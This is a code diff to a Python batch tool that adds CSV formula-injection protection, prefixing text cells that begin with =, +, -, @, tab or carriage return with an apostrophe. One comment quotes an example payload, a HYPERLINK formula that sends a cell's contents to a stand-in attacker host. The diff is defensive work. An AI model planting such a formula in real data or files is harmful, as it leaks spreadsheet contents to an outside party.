@@ -173,9 +173,28 @@ def iter_rows(files: list[Path], jobs: int = 1) -> Iterator[tuple[int, Path, dic
             worker.stop()
 
 
+# A CSV cell starting with one of these is a formula to a spreadsheet app (OWASP, CSV injection): a file
+# named =HYPERLINK(...).xlsx or an organization typed as =HYPERLINK("http://evil.example/?"&B2) would run.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value: Any) -> Any:
+    """A text a spreadsheet app would take for a formula, with a leading apostrophe; anything else as it is."""
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
+
+
+def restore(value: Any) -> Any:
+    """The text `neutralise` was given (for reading back a table it wrote)."""
+    return value[1:] if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS) else value
+
+
 def run_batch(files: list[Path], out: Path, jobs: int = 1,
-              progress: Callable[[Iterable], Iterable] | None = None) -> tuple[int, list[tuple[Path, str]]]:
-    """Write results to .csv or .parquet; returns (rows written, [(file, error)] for skipped files)."""
+              progress: Callable[[Iterable], Iterable] | None = None,
+              raw: bool = False) -> tuple[int, list[tuple[Path, str]]]:
+    """Write results to .csv or .parquet; returns (rows written, [(file, error)] for skipped files).
+
+    CSV texts that a spreadsheet app would run as formulas are neutralised unless `raw`; numbers stay numbers,
+    and Parquet (typed, never evaluated) keeps every value as it is."""
     import pandas as pd
 
     suffix = out.suffix.lower()
@@ -190,7 +209,8 @@ def run_batch(files: list[Path], out: Path, jobs: int = 1,
     frame = pd.DataFrame(rows)
     with atomic_output(out) as temp:
         if suffix == ".csv":
-            frame.to_csv(temp, index=False)
+            text = [c for c in frame.columns if not pd.api.types.is_numeric_dtype(frame[c])]
+            (frame if raw else frame.assign(**{c: frame[c].map(neutralise) for c in text})).to_csv(temp, index=False)
         else:
             try:
                 frame.to_parquet(temp, index=False)
